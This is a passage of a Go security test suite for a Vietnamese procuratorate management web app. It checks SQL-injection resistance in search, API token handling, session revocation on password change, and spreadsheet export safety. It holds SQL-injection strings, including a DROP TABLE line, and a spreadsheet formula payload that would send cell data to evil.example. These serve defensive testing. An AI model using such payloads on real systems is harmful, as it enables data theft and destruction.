	if jsonAt(all, "total").(float64) < 100 {
		t.Fatalf("the registry has %v units: too few for the test to mean anything", jsonAt(all, "total"))
	}
	b := s.browser(t)
	b.login("hoidong")
	for _, c := range []struct {
		q    string
		want []string // the codes found
	}{
		{"%", []string{"VKS-PT100"}},
		{"100%", []string{"VKS-PT100"}},
		{"10_%", nil},
		{"_", []string{"VKS-GACH"}},
		{`\`, []string{"VKS-XIEN"}},
		{`\n`, []string{"VKS-XIEN"}},
		{"'", []string{"VKS-NHAY"}},
		{"' OR 1=1 --", nil},
		{"' OR '1'='1", nil},
		{"'; DROP TABLE units; --", nil},
		{`%' OR name LIKE '%`, nil},
		{"%%", nil},
	} {
		st, body := s.api(t, board, "GET", "/units?status=all&q="+url.QueryEscape(c.q), nil)
		var got []string
		for _, u := range asList(jsonAt(body, "units")) {
			got = append(got, fmt.Sprint(jsonAt(u, "code")))
		}
		if st != 200 || jsonAt(body, "total") != float64(len(c.want)) || strings.Join(got, ",") != strings.Join(c.want, ",") {
			t.Errorf("units q=%q: %d total %v %v, want %v", c.q, st, jsonAt(body, "total"), got, c.want)
		}
		r := b.get("/units?status=all&q=" + url.QueryEscape(c.q))
		if r.status != 200 {
			t.Errorf("unit page q=%q: %d", c.q, r.status)
		}
		if len(c.want) == 0 && strings.Contains(r.body, "Viện kiểm sát nhân dân tỉnh Thanh Hóa") {
			t.Errorf("unit page q=%q lists units that do not match", c.q)
		}
		// People: no name holds these characters but the apostrophe's none either.
		st, body = s.api(t, board, "GET", "/people?q="+url.QueryEscape(c.q), nil)
		if st != 200 || jsonAt(body, "total") != float64(0) {
			t.Errorf("people q=%q: %d total %v", c.q, st, jsonAt(body, "total"))
		}
		if r := b.get("/people?q=" + url.QueryEscape(c.q)); r.status != 200 {
			t.Errorf("people page q=%q: %d", c.q, r.status)
		}
	}
	// The table survived, and an ordinary search still works.
	if st, body := s.api(t, board, "GET", "/units?q=thanh+hoa&type=provincial", nil); st != 200 || jsonAt(body, "total") != float64(1) {
		t.Errorf("ordinary search after the attempts: %d %v", st, jsonAt(body, "total"))
	}
}

func asList(v any) []any { l, _ := v.([]any); return l }

// TestAPITokens: the API opens only to a live bearer token sent in the
// header: not a tampered, expired or revoked one, not one in the query
// string, and the database keeps only its hash.
func TestAPITokens(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	ctx := context.Background()
	tok := s.token(t, "canbo.nghean")
	if st, _ := s.api(t, tok, "GET", "/me", nil); st != 200 {
		t.Fatalf("a fresh token: %d", st)
	}
	var n int
	if err := s.store.SQL().QueryRow(`SELECT count(*) FROM api_tokens WHERE encode(token_hash, 'escape') LIKE '%' || $1 || '%'`, tok).Scan(&n); err != nil || n != 0 {
		t.Fatalf("the token is stored as it is (%d, %v)", n, err)
	}
	tampered := tok[:len(tok)-1] + map[bool]string{true: "A", false: "B"}[tok[len(tok)-1] != 'A']
	for name, token := range map[string]string{"tampered": tampered, "empty": "", "prefix only": "tdk_"} {
		if st, _ := s.api(t, token, "GET", "/me", nil); st != http.StatusUnauthorized {
			t.Errorf("%s token: %d", name, st)
		}
	}
	for _, q := range []string{"?access_token=", "?token="} {
		res, err := http.Get(s.URL + "/api/v1/me" + q + url.QueryEscape(tok))
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if res.StatusCode != http.StatusUnauthorized {
			t.Errorf("token in the query string (%s): %d", q, res.StatusCode)
		}
	}
	// A token that has expired.
	now := s.app.Now()
	s.app.Now = app.FixedClock(now.Add(-2 * time.Hour))
	old, err := s.app.CreateToken(ctx, auth.System, "canbo.nghean", "hết hạn", time.Hour)
	s.app.Now = app.FixedClock(now)
	if err != nil {
		t.Fatal(err)
	}
	if st, _ := s.api(t, old, "GET", "/me", nil); st != http.StatusUnauthorized {
		t.Errorf("expired token: %d", st)
	}
	// Locking the account revokes its tokens, for good: unlocking does not revive them.
	admin := s.token(t, "admin")
	u, err := s.store.UserByName(ctx, "canbo.nghean")
	if err != nil {
		t.Fatal(err)
	}
	for _, active := range []bool{false, true} {
		if st, body := s.api(t, admin, "PUT", "/users/"+itoa(u.ID)+"/active", map[string]any{"active": active}); st != 200 {
			t.Fatalf("active=%v: %d %v", active, st, body)
		}
		if st, _ := s.api(t, tok, "GET", "/me", nil); st != http.StatusUnauthorized {
			t.Errorf("token after active=%v: %d", active, st)
		}
	}
	if st, _ := s.api(t, s.token(t, "canbo.nghean"), "GET", "/me", nil); st != 200 {
		t.Errorf("a new token after unlocking: %d", st)
	}
}

// TestPasswordChangeEndsOtherSessions: whoever learnt the old password and
// signed in with it is out once the owner changes it; the owner's own
// session goes on (with a new id).
func TestPasswordChangeEndsOtherSessions(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	owner := s.browser(t)
	owner.login("canbo.nghean")
	intruder := s.browser(t)
	intruder.login("canbo.nghean")
	before := owner.sessionCookie()
	if r := owner.post("/account/password", url.Values{"current": {seed.DemoPassword}, "password": {"mat-khau-moi-2026"},
		"confirm": {"mat-khau-moi-2026"}}); r.status != http.StatusSeeOther {
		t.Fatalf("password change: %d", r.status)
	}
	if r := intruder.get("/people"); r.status != http.StatusSeeOther || !strings.HasPrefix(r.location, "/login") {
		t.Errorf("a session signed in with the old password after the change: %d %s", r.status, r.location)
	}
	if r := owner.get("/people"); r.status != http.StatusOK {
		t.Errorf("the owner's session after the change: %d", r.status)
	}
	if owner.sessionCookie() == before {
		t.Error("the owner's session id was not renewed")
	}
	// Signing in again with the new password works as before.
	again := s.browser(t)
	if r := again.post("/login", url.Values{"username": {"canbo.nghean"}, "password": {"mat-khau-moi-2026"}}); r.status != http.StatusSeeOther {
		t.Fatalf("sign-in with the new password: %d", r.status)
	}
	if r := again.get("/people"); r.status != http.StatusOK {
		t.Errorf("a new session after the change: %d", r.status)
	}
}

// formulaPayload is text a user types that a spreadsheet would run if it
// were written as a formula.
const formulaPayload = `=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")`

// TestWorkbooksKeepTypedTextAsText: what users type (a unit's name, the
// pledge's preamble and commitments, a filing's explanation) goes into the
// exported workbooks as text, never as a formula.
func TestWorkbooksKeepTypedTextAsText(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	w := newAuthzWorld(t, s)
	board := s.token(t, "hoidong")
	head := s.token(t, "canbo.thanhhoa")
	na := s.token(t, "canbo.nghean")
	p := formulaPayload
	must := func(what string, st int, body map[string]any) {
		t.Helper()
		if st >= 300 {
			t.Fatalf("%s: %d %v", what, st, body)
		}
	}
	ht := s.unit(t, seed.ProvinceCode("Hà Tĩnh"))
	st, body := s.api(t, board, "GET", "/units/"+itoa(ht), nil)
	must("Hà Tĩnh", st, body)
	u := jsonAt(body, "unit").(map[string]any)
	u["name"] = p
	if from, _ := u["valid_from"].(string); len(from) >= 10 {
		u["valid_from"] = from[:10]
	}
	st, body = s.api(t, board, "PUT", "/units/"+itoa(ht), u)
	must("rename", st, body)
	st, body = s.api(t, head, "GET", "/clusters/"+itoa(w.cluster)+"/pledge", nil)
	must("pledge", st, body)
	st, body = s.api(t, head, "PUT", "/clusters/"+itoa(w.cluster)+"/pledge", map[string]any{"version": jsonID(t, body, "pledge", "version"),
		"title": "Giao ước thi đua năm 2026", "place": "Thanh Hóa", "preamble": p, "commitments": []any{map[string]any{"text": p}}})
	must("pledge save", st, body)
	setToday(s, 2026, time.June, 15)
	st, body = s.api(t, na, "GET", "/years/2026/filings/"+itoa(w.unit), nil)
	must("filing", st, body)
	var crit int64
	for _, c := range jsonAt(body, "table", "criteria").([]any) {
		if jsonAt(c, "method") == "indicator" {
			crit = jsonID(t, c, "id")
			break
		}
	}
	st, body = s.api(t, na, "PUT", "/years/2026/filings/"+itoa(w.unit), map[string]any{"version": jsonID(t, body, "filing", "version"),
		"entries": []any{map[string]any{"criterion_id": crit, "not_arisen": true, "explanation": p, "evidence": p}}})
	must("filing save", st, body)

	b := s.browser(t)
	b.login("hoidong")
	for _, path := range []string{"/pledges/" + itoa(w.pledge) + "/workbook", "/years/2026/filings/" + itoa(w.unit) + "/workbook",
		"/years/2026/ranking/workbook"} {
		st, f := awardDocFetch(t, b, path)
		if st != http.StatusOK {
			t.Errorf("%s: %d", path, st)
			continue
		}
		found := 0
		for _, sheet := range f.GetSheetList() {
			rows, err := f.GetRows(sheet)
			if err != nil {
				t.Fatal(err)
			}
			for r, row := range rows {
				for c, v := range row {
					if !strings.Contains(v, "HYPERLINK") {
						continue
					}
					found++
					cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
					if fm, err := f.GetCellFormula(sheet, cell); err != nil || fm != "" {
						t.Errorf("%s %s!%s: written as a formula %q (%v)", path, sheet, cell, fm, err)
					}
					if !strings.Contains(v, p) {
						t.Errorf("%s %s!%s: the text changed: %q", path, sheet, cell, v)
					}
				}
			}
		}
		if found == 0 {
			t.Errorf("%s: the typed text is not in the workbook, so the test proves nothing", path)
		}
	}
}
